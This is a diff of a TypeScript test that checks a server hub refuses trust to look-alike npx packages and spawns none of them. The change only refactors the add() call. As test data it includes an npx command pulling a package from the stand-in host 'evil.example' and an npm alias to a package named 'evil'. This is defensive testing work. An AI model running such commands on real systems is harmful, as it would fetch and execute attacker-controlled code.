@@ -118,16 +118,17 @@ verifies(['P3'], 'adding a featured server trusts it; its look-alike is added, a
   await withHub({ env: { PATH: '/nowhere' } }, async ({ hub, spawns }) => {
     const add = async (id: string, line: string): Promise<string> => {
       const definition = defineServer({ id, endpoint: run(line) });
-      return (await hub.servers.add(definition, { test: false })).server.trust;
+      return (await hub.servers.add({ definition, test: false })).server.trust;
     };
     expect(await add('everything', `npx -y ${PACKAGE}`)).toBe('kept');
     expect(await add('other', `npx -y --registry=https://evil.example ${PACKAGE}`)).toBe('none');
     expect(await add('alias', `npx -y ${PACKAGE}@npm:evil`)).toBe('none');
     // A trusted name is not lent to whatever takes its place.
-    const { server } = await hub.servers.add(
-      defineServer({ id: 'everything', endpoint: run(`npx -y ${PACKAGE}s`) }),
-      { test: false, replace: true },
-    );
+    const { server } = await hub.servers.add({
+      definition: defineServer({ id: 'everything', endpoint: run(`npx -y ${PACKAGE}s`) }),
+      test: false,
+      replace: true,
+    });
     expect(server.trust).toBe('none');
     expect(spawns()).toBe(0);
   });
